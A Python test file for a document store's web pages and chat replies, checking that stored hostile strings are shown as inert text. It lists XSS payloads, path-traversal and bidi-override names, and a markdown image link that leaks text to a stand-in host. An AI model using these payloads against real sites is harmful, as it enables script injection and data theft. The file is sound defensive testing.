"""Stored strings that look like markup, scripts, or text of another direction."""

from __future__ import annotations

import json
from typing import Any, Final
from urllib.parse import quote

import httpx
import pytest

from ragstore.kit.decoding import NDJSON
from tests.page.bases import Bases
from tests.page.chats import MODEL, Chats, ask, models, opened
from tests.page.comparisons import compare
from tests.page.conftest import OpenTab
from tests.page.maps import arranged, places
from tests.page.tab import Tab
from tests.support.changing_site import ChangingSite
from tests.support.fake_upstream import responding, stream_of
from tests.support.keyed_services import eventually
from tests.support.servers import Served
from tests.support.sources import LONG

COLLECTION: Final = "hostile"

STRINGS: Final = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "<style>*{display:none}</style>",
    "<base href='https://example.org/'>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<form action=https://example.org/><input name=a></form>",
    "<link rel=stylesheet href=https://example.org/a.css>",
    "<object data=https://example.org/></object>",
    "<template><script>window.hacked=1</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "</textarea><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "<!--<script>window.hacked=1</script>-->",
    "]]><script>window.hacked=1</script>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "<%= window.hacked=1 %>",
    "' onmouseover='window.hacked=1",
    '" onfocus="window.hacked=1" autofocus="',
    "__proto__",
    "constructor",
    "[object Object]",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#x3C;script&#x3E;",
    "../../etc/passwd",
    "..",
    "a/b?c=d#e&f",
    "line\nbreak",
    "carriage\rreturn",
    "tab\there",
    "nul\u0000byte",
    "reversed \u202egnp.exe",
    "separators \u2028 and \u2029",
    "invisible \u200b\ufeff\u2066 marks",
    "😀 e\u0301 \U0001f468\u200d\U0001f469 combining",
)


@pytest.fixture(scope="module")
def hostile(store: Served) -> Served:
    """The store, with a collection of hostile strings in ids, texts, keys and values."""
    documents = [
        {
            # Chroma's API of ids and keys accepts every character but those that the contract excludes.
            "id": f"{number:02} {text}".replace("\u0000", "\u0001"),
            "text": f"text {text}",
            "embedding": [1, number + 1],
            "metadata": {f"key {text}".replace("\u0000", "\u0001"): f"value {text}", "number": number},
        }
        for number, text in enumerate(STRINGS)
    ]
    large = {"id": "large", "text": "x" * 1_000_000, "embedding": [1, 0], "metadata": {"long": "y" * 2000}}
    with httpx.Client(base_url=store.url, timeout=60) as http:
        http.post("/collections", json={"name": COLLECTION, "embedding_model": STRINGS[1]}).raise_for_status()
        for document in (*documents, large):
            http.post(f"/collections/{COLLECTION}/documents", json={"documents": [document]}).raise_for_status()
    return store


def harmless(tab: Tab) -> bool:
    """Whether nothing of a string was executed or loaded. The tab's own checks follow at the end of the test."""
    markup = "document.querySelectorAll('#page script, #page img, #page iframe, #page object, #page base').length"
    return tab.page.evaluate("window.hacked") is None and tab.page.evaluate(markup) == 0


def laid_out(panel: Any, text: str) -> str:
    """Wait until a panel shows a text, and return all of its text. The browser lays out long texts in a later frame."""
    eventually(lambda: text in panel.inner_text())
    return str(panel.inner_text())


def test_hostile_strings_are_shown_as_text(open_tab: OpenTab, hostile: Served) -> None:
    tab = open_tab(hostile.url, f"#/collections/{COLLECTION}")
    tab.page.get_by_role("row").nth(8).wait_for()
    panel = tab.page.get_by_role("complementary", name="Document")
    tab.page.get_by_role("grid").focus()
    for number, text in enumerate(STRINGS):
        if number:
            tab.page.keyboard.press("ArrowDown")
        tab.page.keyboard.press("Enter")
        panel.get_by_role("heading").filter(has_text=f"{number:02} ").wait_for()
        panel.get_by_role("heading", name="Nearest documents").wait_for()
        if text.isprintable() and text.isascii():
            shown = laid_out(panel, f"text {text}")
            assert f"text {text}" in shown
            assert f"value {text}" in shown
            assert f"key {text}" in shown
    assert harmless(tab)


def test_a_hostile_id_in_the_address_is_shown_as_text(open_tab: OpenTab, hostile: Served) -> None:
    tab = open_tab(hostile.url, f"#/collections/{COLLECTION}")
    panel = tab.page.get_by_role("complementary", name="Document")
    for number, text in enumerate(STRINGS):
        id_ = f"{number:02} {text}".replace("\u0000", "\u0001")
        tab.show(f"#/collections/{COLLECTION}/documents?id={quote(id_)}")
        panel.get_by_role("heading").filter(has_text=f"{number:02} ").wait_for()
        panel.get_by_role("heading", name="Nearest documents").wait_for()
    assert harmless(tab)


def test_a_character_that_changes_the_order_of_others_is_shown_by_its_number(
    open_tab: OpenTab, hostile: Served
) -> None:
    number = STRINGS.index("reversed \u202egnp.exe")
    tab = open_tab(hostile.url, f"#/collections/{COLLECTION}/documents?id={quote(f'{number:02} {STRINGS[number]}')}")
    tab.page.get_by_role("heading", name="Nearest documents").wait_for()

    assert "U+202E" in tab.text()
    assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())


def test_a_text_of_a_million_characters_without_a_space_is_shown(open_tab: OpenTab, hostile: Served) -> None:
    tab = open_tab(hostile.url, f"#/collections/{COLLECTION}/documents?id=large")
    tab.page.locator(".text-block").nth(49).wait_for(state="attached")

    assert tab.page.evaluate("document.querySelector('.text').textContent.length") == 1_000_000
    assert not tab.overflows()


def test_a_hostile_name_in_an_error_is_shown_as_text(open_tab: OpenTab, hostile: Served) -> None:
    tab = open_tab(hostile.url)
    for text in STRINGS:
        tab.show("#/health")
        tab.page.get_by_role("heading", name="Health").wait_for()
        tab.show(f"#/collections/{quote(text, safe='')}")
        tab.page.get_by_role("alert").wait_for()
    assert harmless(tab)


def test_hostile_values_are_suggested_as_text(open_tab: OpenTab, hostile: Served) -> None:
    tab = open_tab(hostile.url, f"#/collections/{COLLECTION}")
    tab.page.get_by_role("row").nth(8).wait_for()
    tab.page.get_by_role("button", name="Add filter").click()
    fields = tab.page.get_by_role("group", name="Fields of the documents shown").get_by_role("button")
    fields.first.click()
    tab.page.get_by_role("group", name="Values of the field").get_by_role("button").first.wait_for()

    assert harmless(tab)


def test_hostile_strings_of_a_map_are_shown_as_text(open_tab: OpenTab, hostile: Served) -> None:
    tab = open_tab(hostile.url, f"#/collections/{COLLECTION}/map")
    arranged(tab)
    colours = tab.page.get_by_label("Colour by").locator("option")
    assert "key <script>window.hacked = 1</script>" in colours.all_inner_texts()
    legend = tab.page.get_by_role("list", name="Legend").get_by_role("button")
    for index, field in enumerate(colours.evaluate_all("options => options.map((option) => option.value)")):
        if not field:
            continue
        tab.page.get_by_label("Colour by").select_option(index=index)
        eventually(lambda: legend.count() > 1)
        assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
    tab.page.get_by_label("Colour by").select_option("number")
    eventually(lambda: legend.count() == 7)
    # The documents are on a curve: each place that has a point shows its document.
    shown = tab.page.locator(".map-text .mono")
    seen = set()
    for place in places(tab)[::10]:
        tab.page.mouse.move(*place)
        seen.add(shown.inner_text())
    assert len(seen) > 20
    assert not {"\u202e", "\u2028", "\u0000"} & {character for text in seen for character in text}
    grid = tab.page.get_by_role("grid")
    grid.focus()
    for _ in STRINGS:
        tab.page.keyboard.press("ArrowDown")
        assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
    tab.page.get_by_label("Document id").fill(f"00 {STRINGS[0]}")
    tab.page.get_by_label("Document id").press("Enter")
    tab.see("15 documents, nearest first")
    assert harmless(tab)


@pytest.fixture(scope="module")
def hostile_base(bases: Bases, site: ChangingSite) -> str:
    """A base with hostile strings in its name and description, in documents and their metadata, and in pages."""
    site.clear()
    links = [f"/{quote(text, safe='')}" for text in STRINGS if text not in {"..", "../../etc/passwd"}]
    site.article("/", STRINGS[0], f"{STRINGS[1]} {LONG * 3}", links)
    source = {"name": "docs", "web": {"startUrl": f"{site.origin}/", "requestDelayMs": 0, "maxPages": 20}}
    base = bases.create(STRINGS[1], description=" ".join(STRINGS[:20])[:1000], sources=[source])
    lines = []
    for number, text in enumerate(STRINGS):
        shown = "".join(each for each in text if each.isprintable() and not 0x200B <= ord(each) <= 0xFEFF)
        name = f"{number:02} {shown}".replace("/..", "").replace("../", "").strip("/ ")
        body = f"# {text}\n\ntext {text}"
        metadata = {f"key {shown}"[:60].replace("$", "").replace("#", ""): f"value {text}"}
        lines.append(
            json.dumps({"documentName": name, "contentType": "text/markdown", "text": body, "metadata": metadata})
        )
    response = bases.call(
        "POST", f"/ragstore/rags/{base}/ingest/batch", content="\n".join(lines), headers={"Content-Type": NDJSON}
    )
    accepted = [each for each in response.json()["documents"] if each["status"] == "pending"]
    assert len(accepted) >= 35, response.json()
    bases.complete(base, len(accepted))
    return base


def test_hostile_documents_of_a_base_are_shown_as_text(open_tab: OpenTab, bases: Bases, hostile_base: str) -> None:
    tab = open_tab(bases.url, "#/bases")
    tab.see("onerror=window.hacked=1")
    tab.show(f"#/bases/{hostile_base}")
    tab.see("00 <script>window.hacked = 1</script>")
    listed = bases.call("GET", f"/ragstore/rags/{hostile_base}/documents", params={"limit": 1000}).json()["documents"]
    for document in listed:
        tab.show(f"#/bases/{hostile_base}/documents/{quote(document['name'], safe='')}?chunk=0")
        tab.page.get_by_role("heading").filter(has_text=document["name"][:2]).first.wait_for()
        tab.page.get_by_role("grid", name="chunk").wait_for()
        assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
    assert harmless(tab)


def test_hostile_settings_passages_and_pages_are_shown_as_text(
    open_tab: OpenTab, bases: Bases, hostile_base: str
) -> None:
    tab = open_tab(bases.url, f"#/bases/{hostile_base}/settings")
    tab.see("Review changes")
    tab.page.get_by_label("Description").fill(STRINGS[3])
    tab.page.get_by_role("button", name="Review changes").click()
    tab.page.get_by_role("group", name="Changes").get_by_text(STRINGS[3], exact=True).wait_for()
    tab.show(f"#/bases/{hostile_base}/try")
    tab.page.get_by_label("Question").fill(STRINGS[0])
    tab.page.get_by_label("Number of results").fill("50")
    tab.page.get_by_role("button", name="Search").click()
    tab.page.get_by_role("region", name="Results").get_by_role("listitem").nth(20).wait_for()
    tab.show(f"#/bases/{hostile_base}/sources")
    tab.page.get_by_role("button", name="Preview").click()
    tab.page.get_by_role("heading", name="Nothing is stored").wait_for()
    tab.show(f"#/bases/{quote(STRINGS[1], safe='')}")
    tab.page.get_by_role("alert").wait_for()
    assert harmless(tab)


def test_hostile_questions_and_expected_documents_are_shown_as_text(
    open_tab: OpenTab, bases: Bases, hostile_base: str
) -> None:
    texts = [text for text in STRINGS if text.strip() and "\0" not in text]
    asked = [{"text": text, "earlier": [text], "passages": [{"documentName": text}]} for text in texts]
    body = {"name": STRINGS[0], "description": STRINGS[1], "base": hostile_base, "questions": asked}
    path = bases.call("POST", "/ragstore/questions", json=body).headers["Location"].partition("?")[0]
    tab = open_tab(bases.url, "#/questions")
    tab.page.get_by_role("link", name=STRINGS[0]).click()
    questions = tab.page.get_by_role("list", name="Questions").locator("summary")
    eventually(lambda: questions.count() == len(texts))
    for number in [0, *(at for at, text in enumerate(texts) if not text.isprintable())][:5]:
        questions.nth(number).click()
        tab.page.get_by_role("button", name="Remove: ").wait_for()
        assert not {"\u202e", "\u2028"} & set(tab.text())
    tab.page.get_by_role("link", name="Runs").click()
    tab.page.get_by_role("button", name="Run", exact=True).click()
    runs = tab.page.get_by_role("group", name="Runs")
    runs.get_by_text("completed").wait_for()
    runs.get_by_role("link").click()
    tab.page.get_by_role("region", name="Outcomes").locator("tbody tr").first.wait_for()
    assert not {"\u202e", "\u2028"} & set(tab.text())
    assert harmless(tab)
    bases.call("DELETE", path, params={"permanent": True})


def test_hostile_names_of_files_that_are_not_accepted_are_shown_as_text(open_tab: OpenTab, bases: Bases) -> None:
    tab = open_tab(bases.url, f"#/bases/{bases.create('Hostile files')}")
    tab.page.get_by_role("button", name="Choose files").wait_for()
    names = [text for text in STRINGS[:15] if "/" not in text] + ["reversed \u202egnp.exe"]
    files = [{"name": name, "mimeType": "text/plain", "buffer": b""} for name in names]
    tab.page.locator("input[type=file]").first.set_input_files(files)
    tab.page.get_by_role("alert").get_by_text("reversed U+202Egnp.exe").wait_for()
    assert harmless(tab)


def replied(open_tab: OpenTab, chats: Chats, *texts: str) -> Tab:
    """A tab with a reply."""
    chats.reply(stream_of(*texts))
    tab = opened(open_tab, chats)
    ask(tab)
    tab.page.get_by_role("article").locator("summary").wait_for()
    return tab


def test_hostile_replies_are_shown_as_text(open_tab: OpenTab, chats: Chats) -> None:
    tab = replied(open_tab, chats, *(f"text {text}\n\n" for text in STRINGS))
    shown = tab.page.locator(".reply").inner_text()
    # The marks of Markdown are not drawn, and the host is drawn after an address.
    plain = [text for text in STRINGS if text.isprintable() and text.isascii() and not set("*_`\\") & set(text)]
    plain = [text for text in plain if "http" not in text]
    assert len(plain) > 15
    assert [text for text in plain if f"text {text}" not in shown] == []
    assert "window.hacked" in shown
    assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
    assert harmless(tab)


def test_a_reply_links_to_the_web_only_and_names_the_host(open_tab: OpenTab, chats: Chats) -> None:
    addresses = ["javascript:window.hacked=1", "data:text/html,x", "//tea.example/", "/v1/models", "file:///etc/passwd"]
    refused = [f"[a link]({address})" for address in (*addresses, "https://good.example@evil.example/")]
    image = "![a picture](https://leak.example/?text=secret)"
    tab = replied(open_tab, chats, "\n\n".join([*refused, image, "[Click **here**](HTTPS://xn--80ak6aa92e.com/a?b#c)"]))
    links = tab.page.locator(".reply a")
    assert [links.nth(number).get_attribute("href") for number in range(links.count())] == [
        "https://leak.example/?text=secret",
        "https://xn--80ak6aa92e.com/a?b#c",
    ]
    assert {links.nth(number).get_attribute("rel") for number in range(2)} == {"noopener noreferrer"}
    shown = tab.page.locator(".reply").inner_text()
    assert "(xn--80ak6aa92e.com)" in shown
    assert "(leak.example)" in shown
    assert [text for text in refused if text not in shown] == []
    assert harmless(tab)


@pytest.mark.parametrize("text", ["x" * 1_000_000, "*_[`" * 12_000, "**a" * 16_000, "[" * 49_000, "\n- " * 12_000])
def test_a_reply_that_is_made_to_be_slow_is_shown(open_tab: OpenTab, chats: Chats, text: str) -> None:
    tab = replied(open_tab, chats, text)
    tab.page.get_by_label("Question", exact=True).fill("The page responds.")

    assert not tab.overflows()
    assert harmless(tab)


def test_hostile_models_bases_and_passages_are_shown_as_text(
    open_tab: OpenTab, chats: Chats, bases: Bases, hostile_base: str
) -> None:
    chats.upstream.on("models", responding(models(*STRINGS)))
    tab = open_tab(chats.url, "#/ask")
    tab.page.locator("select:enabled").wait_for()
    assert "rag/<script>window.hacked = 1</script>" in tab.page.locator("option").all_inner_texts()
    chats.upstream.off("models")
    assert harmless(tab)
    tab = open_tab(bases.url, f"#/ask?base={hostile_base}")
    ask(tab, STRINGS[0])
    buttons = tab.page.get_by_role("button", name="Open passage")
    buttons.first.wait_for()
    for number in range(buttons.count()):
        buttons.nth(number).click()
        tab.page.get_by_role("complementary", name="Passage").locator(".text").wait_for()
    tab.show(f"#/compare?a=base%20{hostile_base}&b=plain")
    compare(tab, STRINGS[0])
    tab.page.get_by_role("region", name="Side A").get_by_role("list", name="Passages").wait_for()
    tab.page.get_by_role("region", name="Side A").get_by_text("Prompt:").click()
    assert harmless(tab)


def test_a_hostile_error_of_a_model_server_is_shown_as_text(open_tab: OpenTab, chats: Chats) -> None:
    for text in (STRINGS[1], "reversed \u202egnp.exe"):
        body = json.dumps({"error": {"message": text, "code": text}}).encode()
        chats.reply(responding(body, "500 Internal Server Error"))
        tab = opened(open_tab, chats, f"rag/{MODEL}")
        ask(tab)
        tab.page.get_by_role("alert").wait_for()
        assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
        assert harmless(tab)
